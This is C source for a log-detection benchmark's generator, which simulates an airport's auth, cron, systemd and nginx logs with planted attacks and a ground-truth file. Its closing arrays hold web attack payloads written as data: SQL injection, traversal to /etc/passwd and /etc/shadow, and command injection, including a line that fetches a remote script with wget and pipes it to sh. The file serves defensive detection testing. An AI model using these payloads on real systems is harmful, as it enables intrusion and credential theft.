/*
 * gen_authlog.c — the logwatch benchmark's log generator (issue 5): a central rsyslog file of
 * an airport's servers (auth, cron, systemd and nginx lines of ~60 hosts, RFC 3164 or RFC 3339
 * stamps by host, local time +09:00) over a span of days, with attacks planted in realistic
 * background, and a ground-truth file (JSON lines) naming each planted attack.
 *
 * A discrete-event simulation: every source of lines (a host's cron, a user's sessions, an
 * automation account, internet scanners, web clients, each planted attack) is an actor in a
 * min-heap ordered by the time of its next line; popping the earliest actor, letting it write
 * its lines and pushing it back gives a log in time order with memory bounded by the number of
 * actors (the generator streams 100 million lines as easily as 1 million). Deterministic: one
 * PRNG (splitmix64) seeded by --seed; the same arguments give the same bytes.
 *
 * Invariants the ground truth relies on (tests/integration/test_bench_gen.sh checks them):
 *   - every public address belongs to one pool (attackers, scanners, web clients: disjoint first
 *     octets), is drawn from a counter through a bijection (never repeats), and an attacker's
 *     address appears only in its own attack's lines;
 *   - staff log in only from their own workstation (and VPN) address, on weekdays 09–18;
 *   - heartbeat hosts write a line every minute, except during their planted gaps, and no
 *     planted attack touches them; planted attacks end before the span does.
 * Background that must NOT be alerted: single password typos followed by a success, scanners
 * (one or two probes per address), benign web requests that look like attacks to a naive match
 * (O'Hare, select-seat, union-station), group changes to non-admin groups.
 *
 * Staff accounts are named surname-initial (tanaka-k), not surname.initial: sshguard's parser
 * takes the user of a sudo line with a dot for a host name and resolves it by DNS, which made
 * its run measure the resolver rather than the parser (bench/RESULTS.md).
 *
 * Usage: gen_authlog [--lines N] [--days D] [--seed S] [--start YYYY-MM-DD] [--truth FILE]
 * writes the log to standard output (about N lines) and the truth to FILE.
 */
#include <errno.h>
#include <math.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/banned.h"

#define US 1000000LL
#define MINUTE (60 * US)
#define HOUR (3600 * US)
#define DAY (86400 * US)
#define TZ_OFF (9 * HOUR) /* local time is +09:00 (JST) */

/* ---- randomness ---- */
static uint64_t rng_state;
static uint64_t rnd64(void)
{
    uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}
static double rndf(void)
{
    return (double)(rnd64() >> 11) / 9007199254740992.0;
}
static int rndi(int lo, int hi)
{
    return lo + (int)(rnd64() % (uint64_t)(hi - lo + 1));
} /* [lo,hi] */
static int64_t rnd_exp(double mean_us)
{
    return (int64_t)(-log(1.0 - rndf()) * mean_us) + 1;
}
static unsigned rnd_pid(void)
{
    return (unsigned)rndi(1200, 399999);
}
static unsigned rnd_port(void)
{
    return (unsigned)rndi(1025, 65535);
}

/* ---- time ---- */
static int64_t days_from_civil(int y, int m, int d)
{
    y -= m <= 2;
    int64_t era = (y >= 0 ? y : y - 399) / 400;
    int64_t yoe = y - era * 400;
    int64_t doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
    int64_t doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + doe - 719468;
}
struct civil {
    int y, m, d, hh, mm, ss, wday; /* wday 0 = Sunday */
};
static struct civil civil_of(int64_t secs)
{
    struct civil c;
    int64_t z = secs >= 0 ? secs / 86400 : (secs - 86399) / 86400;
    int64_t rem = secs - z * 86400;
    c.hh = (int)(rem / 3600), c.mm = (int)(rem / 60 % 60), c.ss = (int)(rem % 60);
    c.wday = (int)((z + 4) % 7 + 7) % 7;
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    int64_t doe = z - era * 146097;
    int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    int64_t mp = (5 * doy + 2) / 153;
    c.d = (int)(doy - (153 * mp + 2) / 5 + 1);
    c.m = (int)(mp < 10 ? mp + 3 : mp - 9);
    c.y = (int)(yoe + era * 400 + (c.m <= 2));
    return c;
}
static const char *const MON[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                  "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
static void iso_utc(int64_t t, char out[64])
{
    struct civil c = civil_of(t / US);
    snprintf(out, 64, "%04d-%02d-%02dT%02d:%02d:%02dZ", c.y, c.m, c.d, c.hh, c.mm, c.ss);
}
/* Start of the local day containing t, and the local hour/weekday of t. */
static int64_t local_day_start(int64_t t)
{
    return (t + TZ_OFF) / DAY * DAY - TZ_OFF;
}
static struct civil local_civil(int64_t t)
{
    return civil_of((t + TZ_OFF) / US);
}
static int is_workday(int64_t t)
{
    int w = local_civil(t).wday;
    return w >= 1 && w <= 5;
}
/* The time `work` microseconds of working time (weekdays 09:00–18:00 local) after t. */
static int64_t after_work_time(int64_t t, int64_t work)
{
    for (;;) {
        int64_t day = local_day_start(t), open = day + 9 * HOUR, close = day + 18 * HOUR;
        if (!is_workday(t) || t >= close) {
            t = day + DAY + 9 * HOUR;
            continue;
        }
        if (t < open)
            t = open;
        if (t + work < close)
            return t + work;
        work -= close - t;
        t = day + DAY + 9 * HOUR;
    }
}

/* ---- output ---- */
static char obuf[1 << 20];
static size_t olen;
static uint64_t nlines;
static void out_flush(void)
{
    if (olen && fwrite(obuf, 1, olen, stdout) != olen) {
        fprintf(stderr, "gen_authlog: write error: %s\n", strerror(errno));
        exit(1);
    }
    olen = 0;
}

/* ---- hosts ---- */
struct ep;
enum host_role { ROLE_INTERNAL, ROLE_GATEWAY, ROLE_WEB, ROLE_HEARTBEAT };
struct host {
    char name[24];
    int rfc3339, role;
    unsigned logind_pid, session_seq;
    int cron_minutes;
    int64_t gap_from[2], gap_to[2]; /* planted silences (heartbeat hosts only) */
    struct ep *gap_ep[2];
    int ngap;
    char last_line[1024]; /* heartbeat hosts: the last line written, for the gap's evidence */
    int64_t last_t;
};
#define NHOSTS_MAX 80
static struct host hosts[NHOSTS_MAX];
static int nhosts;
static int gateways[8], ngateways, webs[8], nwebs, heartbeats[8], nheartbeats, internals[64],
    ninternals;

/* ---- planted attacks (the ground truth) ---- */
enum cat {
    C_PWLIST,
    C_BRUTE,
    C_SPRAY,
    C_AFTERFAIL,
    C_NEWSRC,
    C_OFFHOURS,
    C_CREATED,
    C_PRIV,
    C_UNUSED,
    C_GAP,
    C_WEB,
    C_N
};
static const char *const CAT_NAME[C_N] = {
    "password_list_attack", "brute_force",     "password_spray",  "login_after_failures",
    "new_source_login",     "off_hours_login", "account_created", "privilege_granted",
    "unused_account_login", "log_gap",         "web_attack"};

struct ep {
    int cat, host, state;
    int64_t start;
    char ip[48];   /* the source address (empty when none) */
    char user[40]; /* the account (empty when none) */
    unsigned also; /* other categories an alert may rightly give (bit per enum cat) */
    /* progress */
    int todo, done, count, pid_left;
    unsigned pid, port;
    int repeat_pending;
    char detail[160]; /* extra JSON members, written as is */
    /* password spray: the sources and their attempts */
    int nsrc, nacct;
    char (*srcs)[48];
    char accts[4][40];
    int64_t *at;  /* attempt times */
    int *at_src;  /* attempt source index */
    int *at_acct; /* attempt account index */
    /* login_after_failures may plant account_created / privilege_granted children */
    struct ep *child_created, *child_priv;
    int web_kinds; /* bits: 1 sqli, 2 traversal, 4 cmdi, 8 xss, 16 crlf */
    /* what the log shows */
    int64_t first_t, last_t;
    long lines; /* lines naming the source address (or the account for local events) */
    char *ev_first, *ev_last;
};
static struct ep **eps;
static size_t neps, cap_eps;
static struct ep *cur_ep; /* the attack whose lines are being written */

static struct ep *ep_new(int cat)
{
    if (neps == cap_eps) {
        cap_eps = cap_eps ? cap_eps * 2 : 256;
        eps = realloc(eps, cap_eps * sizeof(*eps));
        if (!eps)
            abort();
    }
    struct ep *e = calloc(1, sizeof(*e));
    if (!e)
        abort();
    e->cat = cat;
    e->host = -1;
    eps[neps++] = e;
    return e;
}

static int is_addr_char(char c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') || c == '.' ||
           c == ':';
}
/* Whether `word` occurs in s as a whole address token. */
static int has_token(const char *s, const char *word)
{
    size_t n = strlen(word);
    if (!n)
        return 0;
    for (const char *p = strstr(s, word); p; p = strstr(p + 1, word))
        if ((p == s || !is_addr_char(p[-1])) && !is_addr_char(p[n]))
            return 1;
    return 0;
}
static char *dup_text(const char *s, size_t n)
{
    char *d = malloc(n + 1);
    if (!d)
        abort();
    memcpy(d, s, n);
    d[n] = 0;
    return d;
}

/* ---- writing one line ---- */
static int64_t cached_sec = -1;
static char cached_3164[64], cached_3339[64];

/* Writes "STAMP HOST PROG[PID]: MESSAGE\n" (pid 0: "PROG: "). Lines of a host inside one of
 * its planted gaps are dropped (only background can fall there). */
__attribute__((format(printf, 5, 6))) static void line(int64_t t, int h, const char *prog,
                                                       unsigned pid, const char *fmt, ...)
{
    struct host *H = &hosts[h];
    for (int g = 0; g < H->ngap; g++)
        if (t >= H->gap_from[g] && t < H->gap_to[g])
            return;
    if (sizeof(obuf) - olen < 2048)
        out_flush();
    int64_t sec = (t + TZ_OFF) / US;
    if (sec != cached_sec) {
        struct civil c = civil_of(sec);
        snprintf(cached_3164, sizeof(cached_3164), "%s %2d %02d:%02d:%02d", MON[c.m - 1], c.d, c.hh,
                 c.mm, c.ss);
        snprintf(cached_3339, sizeof(cached_3339), "%04d-%02d-%02dT%02d:%02d:%02d", c.y, c.m, c.d,
                 c.hh, c.mm, c.ss);
        cached_sec = sec;
    }
    char *start = obuf + olen;
    size_t room = sizeof(obuf) - olen - 1, n;
    if (H->rfc3339)
        n = (size_t)snprintf(start, room, "%s.%06d+09:00 %s ", cached_3339, (int)(t % US), H->name);
    else
        n = (size_t)snprintf(start, room, "%s %s ", cached_3164, H->name);
    n += (size_t)(pid ? snprintf(start + n, room - n, "%s[%u]: ", prog, pid)
                      : snprintf(start + n, room - n, "%s: ", prog));
    va_list ap;
    va_start(ap, fmt);
    int m = vsnprintf(start + n, room - n, fmt, ap);
    va_end(ap);
    if (m < 0 || (size_t)m >= room - n - 1)
        abort(); /* a template longer than the line budget: a bug here */
    n += (size_t)m;
    start[n] = 0;
    if (H->role == ROLE_HEARTBEAT) {
        for (int g = 0; g < H->ngap; g++)
            if (H->last_t < H->gap_from[g] && t >= H->gap_to[g]) {
                struct ep *e = H->gap_ep[g]; /* the gap this line closes */
                if (!e->ev_first) {
                    e->first_t = H->last_t;
                    e->last_t = t;
                    e->ev_first = dup_text(H->last_line, strlen(H->last_line));
                    e->ev_last = dup_text(start, n);
                    e->lines = 2;
                    e->count = 1;
                }
            }
        if (n < sizeof(H->last_line)) {
            memcpy(H->last_line, start, n + 1);
            H->last_t = t;
        }
    }
    if (cur_ep) {
        struct ep *e = cur_ep;
        if (!e->ev_first) {
            e->first_t = t;
            e->ev_first = dup_text(start, n);
        }
        e->last_t = t;
        free(e->ev_last);
        e->ev_last = dup_text(start, n);
        const char *key = e->ip[0] ? e->ip : e->user;
        if (e->cat == C_SPRAY || has_token(start + 20, key))
            e->lines++;
    }
    start[n++] = '\n';
    olen += n;
    nlines++;
}

/* ---- addresses ---- */
/* Disjoint pools by first octet; a counter through a 24-bit bijection gives the rest, so an
 * address never repeats within a pool and never appears in two pools. */
static const int POOL_ATTACK[] = {45,  61,  80,  91,  103, 109, 116, 119, 122, 141, 152,
                                  157, 171, 175, 180, 182, 185, 193, 195, 212, 218, 222};
static const int POOL_SCAN[] = {5,   14,  23,  27,  36,  42,  49,  58,  62,  71,  77,  83,
                                89,  92,  94,  101, 104, 106, 111, 113, 138, 146, 161, 162,
                                167, 170, 176, 179, 183, 188, 190, 194, 196, 206, 209, 213};
static const int POOL_CLIENT[] = {126, 133, 153, 202, 210, 219, 223};
static uint32_t perm24(uint32_t x)
{
    x &= 0xffffff;
    x = (x * 0x9e3779u + 0x5a5a5u) & 0xffffff; /* odd multiplier: a bijection mod 2^24 */
    x ^= x >> 11;
    x = (x * 0x2c1b3u) & 0xffffff;
    x ^= x >> 7;
    return x;
}
static uint32_t pool_counter[3];
static void pool_addr(int pool, int v6, char out[48])
{
    const int *oct = pool == 0 ? POOL_ATTACK : pool == 1 ? POOL_SCAN : POOL_CLIENT;
    size_t noct = pool == 0   ? sizeof(POOL_ATTACK) / sizeof(int)
                  : pool == 1 ? sizeof(POOL_SCAN) / sizeof(int)
                              : sizeof(POOL_CLIENT) / sizeof(int);
    for (;;) {
        uint32_t k = pool_counter[pool]++;
        uint32_t j = k % (uint32_t)noct; /* for one octet, k / noct is a bijection of k */
        uint32_t rest = perm24((k / (uint32_t)noct) ^ (j * 0x5bd1e9u));
        int a = oct[j];
        if (v6) { /* one /48 per pool octet: unique by the counter */
            snprintf(out, 48, "2a0%d:%x:%x::%x", pool + 1, a, rest >> 8, (rest & 0xff) + 1);
            return;
        }
        int d = (int)(rest & 0xff);
        if (d == 0 || d == 255)
            continue;
        snprintf(out, 48, "%d.%d.%d.%d", a, (int)(rest >> 16), (int)(rest >> 8 & 0xff), d);
        return;
    }
}

/* ---- people ---- */
static const char *const SURNAMES[] = {
    "sato",      "suzuki",    "takahashi", "tanaka",    "watanabe", "ito",      "yamamoto",
    "nakamura",  "kobayashi", "kato",      "yoshida",   "yamada",   "sasaki",   "yamaguchi",
    "matsumoto", "inoue",     "kimura",    "hayashi",   "shimizu",  "yamazaki", "mori",
    "abe",       "ikeda",     "hashimoto", "yamashita", "ishikawa", "nakajima", "maeda",
    "fujita",    "ogawa",     "goto",      "okada",     "hasegawa", "murakami", "kondo",
    "ishii",     "saito",     "sakamoto",  "endo",      "aoki",     "fujii",    "nishimura",
    "fukuda",    "ota",       "miura",     "okamoto",   "matsuda",  "nakagawa"};
#define NSURNAMES (sizeof(SURNAMES) / sizeof(SURNAMES[0]))
static const char INITIALS[] = "hkmtsyanrje";

enum u_state { U_IDLE, U_TYPO, U_IN };
struct user {
    char name[32];
    unsigned uid;
    char ws[20], vpn[20]; /* workstation and (some) VPN address: the only ones this user uses */
    int hosts[3], nhosts;
    int password, admin, dormant;
    double sessions_per_day;
    int state, host, tty;
    unsigned pid, port, session;
    const char *src;
    int64_t end, last_login;
    char fp[44];
};
#define NUSERS 400
#define NDORMANT 40
static struct user users[NUSERS + NDORMANT];
static int nusers;

static void make_fp(char out[44], uint64_t seed)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 0; i < 43; i++) {
        seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
        out[i] = b64[seed >> 58];
    }
    out[43] = 0;
}

/* ---- the heap of actors ---- */
enum kind { K_HEARTBEAT, K_CRON, K_NOISE, K_USER, K_AUTO, K_SCAN, K_WEB, K_EP };
struct actor {
    int64_t t;
    int kind, idx;
};
static struct actor *heap;
static size_t hn, hcap;
static void push(int64_t t, int kind, int idx)
{
    if (hn == hcap) {
        hcap = hcap ? hcap * 2 : 1024;
        heap = realloc(heap, hcap * sizeof(*heap));
        if (!heap)
            abort();
    }
    size_t i = hn++;
    while (i && heap[(i - 1) / 2].t > t) {
        heap[i] = heap[(i - 1) / 2];
        i = (i - 1) / 2;
    }
    heap[i] = (struct actor){t, kind, idx};
}
static struct actor pop(void)
{
    struct actor top = heap[0], last = heap[--hn];
    size_t i = 0;
    for (;;) {
        size_t c = 2 * i + 1;
        if (c >= hn)
            break;
        if (c + 1 < hn && heap[c + 1].t < heap[c].t)
            c++;
        if (heap[c].t >= last.t)
            break;
        heap[i] = heap[c];
        i = c;
    }
    if (hn)
        heap[i] = last;
    return top;
}

/* ---- parameters ---- */
static int64_t t_begin, t_end;
static double rate_noise, rate_scan, rate_web, auto_gap_us;

/* ---- background actors ---- */
static const char *const CRON_CMDS[] = {
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "/usr/lib/airport/fids-sync --quiet",
    ("[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
     "/usr/lib/php/sessionclean; fi"),
    "/usr/local/sbin/backup-incr.sh >/dev/null 2>&1",
    "cd / && run-parts --report /etc/cron.hourly",
    "/usr/lib/zabbix/check_disks.sh"};
static const char *const UNITS[][2] = {
    {"apt-daily.service", "Daily apt download activities"},
    {"apt-daily-upgrade.service", "Daily apt upgrade and clean activities"},
    {"logrotate.service", "Rotate log files"},
    {"man-db.service", "Daily man-db regeneration"},
    {"systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"},
    {"phpsessionclean.service", "Clean php session files"},
    {"sysstat-collect.service", "system activity accounting tool"}};
static const char *const SUDO_CMDS[] = {"/usr/bin/systemctl status nginx",
                                        "/usr/bin/systemctl restart fids-display",
                                        "/usr/bin/journalctl -u aodb-sync --since today",
                                        "/usr/bin/tail -n 200 /var/log/syslog",
                                        "/usr/bin/apt-get update",
                                        "/usr/bin/vi /etc/airport/gates.conf",
                                        "/usr/sbin/service postgresql reload",
                                        "/usr/bin/docker ps"};

static void step_heartbeat(int64_t t, int h)
{
    line(t, h, "CRON", rnd_pid(), "(root) CMD (/usr/lib/airport/heartbeat --report mon01)");
    int64_t next = (t / MINUTE + 1) * MINUTE + rndi(0, 1500) * 1000LL;
    if (next < t_end)
        push(next, K_HEARTBEAT, h);
}
static void step_cron(int64_t t, int h)
{
    unsigned pid = rnd_pid();
    line(t, h, "CRON", pid,
         "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
    line(t, h, "CRON", pid, "(root) CMD (%s)", CRON_CMDS[rndi(0, 5)]);
    line(t + 300000, h, "CRON", pid, "pam_unix(cron:session): session closed for user root");
    int64_t next = t + hosts[h].cron_minutes * MINUTE;
    if (next < t_end)
        push(next, K_CRON, h);
}
static void step_noise(int64_t t)
{
    int h = rndi(0, nhosts - 1);
    int r = rndi(0, 9);
    if (r < 6) {
        int u = rndi(0, 6);
        line(t, h, "systemd", 1, "Starting %s - %s...", UNITS[u][0], UNITS[u][1]);
        line(t, h, "systemd", 1, "%s: Deactivated successfully.", UNITS[u][0]);
        line(t, h, "systemd", 1, "Finished %s - %s.", UNITS[u][0], UNITS[u][1]);
    } else if (r < 8) {
        line(t, h, "systemd-timesyncd", 421,
             "Initial synchronization to time server 10.0.0.10:123 "
             "(ntp01.airport.local).");
    } else if (r < 9) {
        line(t, h, "rsyslogd", 0,
             "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" "
             "x-pid=\"398\" x-info=\"https://www.rsyslog.com\"] rsyslogd was "
             "HUPed");
    } else {
        /* a benign group change (not an administrators' group) */
        struct user *u = &users[rndi(0, NUSERS - 1)];
        static const char *const grp[] = {"www-data", "fids", "dialout", "video"};
        const char *g = grp[rndi(0, 3)];
        line(t, h, "usermod", rnd_pid(), "add '%s' to group '%s'", u->name, g);
        line(t, h, "usermod", rnd_pid(), "add '%s' to shadow group '%s'", u->name, g);
    }
    int64_t next = t + rnd_exp(1.0 / rate_noise);
    if (next < t_end)
        push(next, K_NOISE, 0);
}

/* A login and its session lines; the caller keeps pid/port/session to close it. */
static void session_open(int64_t t, int h, const char *user, unsigned uid, const char *src,
                         int password, const char *fp, unsigned pid, unsigned port,
                         unsigned session)
{
    if (password)
        line(t, h, "sshd", pid, "Accepted password for %s from %s port %u ssh2", user, src, port);
    else
        line(t, h, "sshd", pid, "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s",
             user, src, port, fp);
    line(t, h, "sshd", pid, "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
         user, uid);
    line(t, h, "systemd-logind", hosts[h].logind_pid, "New session %u of user %s.", session, user);
}
static void session_close(int64_t t, int h, const char *user, const char *src, unsigned pid,
                          unsigned port, unsigned session)
{
    line(t, h, "sshd", pid, "Received disconnect from %s port %u:11: disconnected by user", src,
         port);
    line(t, h, "sshd", pid, "Disconnected from user %s %s port %u", user, src, port);
    line(t, h, "sshd", pid, "pam_unix(sshd:session): session closed for user %s", user);
    line(t, h, "systemd-logind", hosts[h].logind_pid,
         "Session %u logged out. Waiting for processes to exit.", session);
    line(t, h, "systemd-logind", hosts[h].logind_pid, "Removed session %u.", session);
}
static void sudo_cmd(int64_t t, int h, const char *user, unsigned uid, int tty, const char *cmd)
{
    line(t, h, "sudo", 0, "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s", user, tty,
         user, cmd);
    line(t, h, "sudo", 0,
         "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%u)", user, uid);
    line(t + 200000, h, "sudo", 0, "pam_unix(sudo:session): session closed for user root");
}

static void user_next_login(int64_t t, int i)
{
    struct user *u = &users[i];
    if (u->dormant)
        return; /* a dormant account logs in once (its planted return is an attack actor) */
    int64_t next = after_work_time(t, rnd_exp(9.0 * HOUR / u->sessions_per_day));
    if (next < t_end)
        push(next, K_USER, i);
}
static void step_user(int64_t t, int i)
{
    struct user *u = &users[i];
    if (u->state == U_IDLE) {
        u->host = u->hosts[rndi(0, u->nhosts - 1)];
        u->src = u->vpn[0] && rndf() < 0.3 ? u->vpn : u->ws;
        u->pid = rnd_pid();
        u->port = rnd_port();
        u->state = U_TYPO;
        if (u->password && rndf() < 0.04) { /* a typo: one failure, then the right password */
            line(t, u->host, "sshd", u->pid,
                 "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                 "ruser= rhost=%s  user=%s",
                 u->src, u->name);
            line(t, u->host, "sshd", u->pid, "Failed password for %s from %s port %u ssh2", u->name,
                 u->src, u->port);
            push(t + rndi(3, 15) * US, K_USER, i);
            return;
        }
    }
    if (u->state == U_TYPO) { /* the login */
        u->session = ++hosts[u->host].session_seq;
        u->tty = rndi(0, 4);
        u->last_login = t;
        session_open(t, u->host, u->name, u->uid, u->src, u->password, u->fp, u->pid, u->port,
                     u->session);
        u->state = U_IN;
        u->end = t + rnd_exp(25 * MINUTE) + 30 * US;
    } else if (t < u->end) { /* an administrator's sudo during the session */
        sudo_cmd(t, u->host, u->name, u->uid, u->tty, SUDO_CMDS[rndi(0, 7)]);
    } else { /* the logout */
        session_close(t, u->host, u->name, u->src, u->pid, u->port, u->session);
        u->state = U_IDLE;
        user_next_login(t, i);
        return;
    }
    int64_t next = u->admin ? t + rnd_exp(10 * MINUTE) : u->end;
    push(next < u->end ? next : u->end, K_USER, i);
}

/* Automation accounts: publickey logins at any hour from their fixed hosts. */
static const char *const AUTO_USER[] = {"ansible", "backup", "zabbix", "fids-sync"};
static const char *const AUTO_SRC[] = {"10.0.9.10", "10.0.9.11", "10.0.9.12", "10.0.9.13"};
static struct {
    int state, host;
    unsigned pid, port, session;
    char fp[44];
} autos[4];
static void step_auto(int64_t t, int a)
{
    if (!autos[a].state) {
        autos[a].host = rndi(0, nhosts - 1);
        autos[a].pid = rnd_pid();
        autos[a].port = rnd_port();
        autos[a].session = ++hosts[autos[a].host].session_seq;
        session_open(t, autos[a].host, AUTO_USER[a], 990 + (unsigned)a, AUTO_SRC[a], 0, autos[a].fp,
                     autos[a].pid, autos[a].port, autos[a].session);
        autos[a].state = 1;
        push(t + rndi(2, 40) * US, K_AUTO, a);
        return;
    }
    session_close(t, autos[a].host, AUTO_USER[a], AUTO_SRC[a], autos[a].pid, autos[a].port,
                  autos[a].session);
    autos[a].state = 0;
    int64_t next = t + rnd_exp(auto_gap_us);
    if (next < t_end)
        push(next, K_AUTO, a);
}

/* Internet scanners: each address probes once or twice, then is never seen again. */
static const char *const SCAN_PATHS[] = {
    "/.env",        "/wp-login.php",    "/phpmyadmin/index.php",
    "/.git/config", "/actuator/health", "/owa/auth/logon.aspx"};
static void step_scan(int64_t t)
{
    char ip[48];
    pool_addr(1, rndf() < 0.05, ip);
    int probes = rndf() < 0.3 ? 2 : 1;
    for (int k = 0; k < probes; k++) {
        int web = rndf() < 0.25;
        int h = web ? webs[rndi(0, nwebs - 1)] : gateways[rndi(0, ngateways - 1)];
        unsigned pid = rnd_pid(), port = rnd_port();
        int64_t tk = t + k * 1500000;
        if (web) {
            struct civil c = local_civil(tk);
            line(tk, h, "nginx", 0,
                 "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0900] \"GET %s HTTP/1.1\" 404 162 \"-\" "
                 "\"Mozilla/5.0 zgrab/0.x\"",
                 ip, c.d, MON[c.m - 1], c.y, c.hh, c.mm, c.ss, SCAN_PATHS[rndi(0, 5)]);
            continue;
        }
        switch (rndi(0, 5)) {
        case 0:
            line(tk, h, "sshd", pid, "Connection closed by %s port %u [preauth]", ip, port);
            break;
        case 1:
            line(tk, h, "sshd", pid,
                 "error: kex_exchange_identification: Connection closed by remote host");
            line(tk, h, "sshd", pid, "Connection closed by %s port %u", ip, port);
            break;
        case 2:
            line(tk, h, "sshd", pid, "banner exchange: Connection from %s port %u: invalid format",
                 ip, port);
            break;
        case 3:
            line(tk, h, "sshd", pid,
                 "Unable to negotiate with %s port %u: no matching key exchange method found. "
                 "Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,"
                 "diffie-hellman-group1-sha1 [preauth]",
                 ip, port);
            break;
        case 4:
            line(tk, h, "sshd", pid, "Did not receive identification string from %s port %u", ip,
                 port);
            break;
        default:
            line(tk, h, "sshd", pid, "Invalid user %s from %s port %u",
                 rndf() < 0.5 ? "admin" : "user", ip, port);
            line(tk, h, "sshd", pid, "Connection closed by invalid user %s %s port %u [preauth]",
                 rndf() < 0.5 ? "admin" : "user", ip, port);
        }
    }
    int64_t next = t + rnd_exp(1.0 / rate_scan);
    if (next < t_end)
        push(next, K_SCAN, 0);
}

/* The airport's public web site; a few benign requests look like attacks to a naive match. */
static const char *const WEB_PATHS[] = {"/",
                                        "/flights/arrivals",
                                        "/flights/departures",
                                        "/static/css/site.4f2a.css",
                                        "/static/js/script.min.js",
                                        "/access/parking",
                                        "/shop/select-seat",
                                        "/news/2026/union-station-bus",
                                        "/search?q=O%27Hare",
                                        "/search",
                                        "/favicon.ico",
                                        "/api/flights/status"};
static const char *const UAS[] = {
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SH-51E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Mobile Safari/537.36"};
static uint32_t nclients;
static char (*clients)[48];
static void web_line(int64_t t, int h, const char *ip, const char *req, int status, int bytes,
                     const char *ua)
{
    struct civil c = local_civil(t);
    line(t, h, "nginx", 0,
         "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0900] \"%s HTTP/1.1\" %d %d "
         "\"https://www.airport.example/\" \"%s\"",
         ip, c.d, MON[c.m - 1], c.y, c.hh, c.mm, c.ss, req, status, bytes, ua);
}
static void step_web(int64_t t)
{
    double r = rndf();
    const char *ip = clients[(uint32_t)(r * r * nclients)];
    int p = rndi(0, 11);
    char path[160], req[200], date[16];
    struct civil c = local_civil(t);
    snprintf(date, sizeof(date), "%04d-%02d-%02d", c.y, c.m, c.d);
    if (p == 1 || p == 2)
        snprintf(path, sizeof(path), "%s?date=%s&terminal=%d", WEB_PATHS[p], date, rndi(1, 3));
    else if (p == 6)
        snprintf(path, sizeof(path), "%s?flight=NH%d", WEB_PATHS[p], rndi(1, 999));
    else if (p == 9)
        snprintf(path, sizeof(path), "%s?q=gate+%d", WEB_PATHS[p], rndi(1, 99));
    else if (p == 11)
        snprintf(path, sizeof(path), "%s?no=JL%d", WEB_PATHS[p], rndi(1, 999));
    else
        snprintf(path, sizeof(path), "%s", WEB_PATHS[p]);
    snprintf(req, sizeof(req), "GET %s", path);
    int status = p == 3 || p == 4 ? (rndf() < 0.5 ? 304 : 200) : rndf() < 0.02 ? 404 : 200;
    web_line(t, webs[rndi(0, nwebs - 1)], ip, req, status, status == 304 ? 0 : rndi(300, 40000),
             UAS[rndi(0, 2)]);
    int64_t next = t + rnd_exp(1.0 / rate_web);
    if (next < t_end)
        push(next, K_WEB, 0);
}

/* ---- planted attacks ---- */
static const char *const LIST_NAMES[] = {
    "root",     "admin",    "test",    "user",     "guest",   "oracle",  "postgres",  "ubuntu",
    "pi",       "ftp",      "git",     "deploy",   "support", "mysql",   "www",       "web",
    "operator", "sysadmin", "dev",     "jenkins",  "hadoop",  "elastic", "minecraft", "steam",
    "tomcat",   "nagios2",  "vagrant", "ansible2", "docker",  "kafka",   "redis",     "centos",
    "debian",   "admin1",   "test1",   "user1",    "oracle1", "ftpuser", "backup1",   "student",
    "teacher",  "office",   "info",    "sales",    "airport", "fids",    "aodb",      "scanner",
    "printer",  "camera"};
#define NLIST (sizeof(LIST_NAMES) / sizeof(LIST_NAMES[0]))
static const char *const WEB_SQLI[] = {"GET /flights/search?q=1%27%20OR%20%271%27=%271",
                                       ("GET /news?id=5%20UNION%20SELECT%20username,"
                                        "password%20FROM%20users--"),
                                       "POST /login?user=admin%27--",
                                       "GET /api/flights/status?no=1;DROP%20TABLE%20flights--",
                                       "GET /shop/item?id=1%20AND%20SLEEP(5)"};
static const char *const WEB_TRAV[] = {
    "GET /static/../../../../etc/passwd", "GET /download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
    "GET /..%252f..%252f..%252fetc/passwd", "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"};
static const char *const WEB_CMDI[] = {
    "GET /api/ping?host=127.0.0.1;cat%20/etc/passwd", "GET /api/tools?cmd=%60id%60",
    "GET /index.php?s=|wget%20http://45.9.20.1/x.sh%20-O-|sh", "GET /api/dns?name=$(uname%20-a)"};
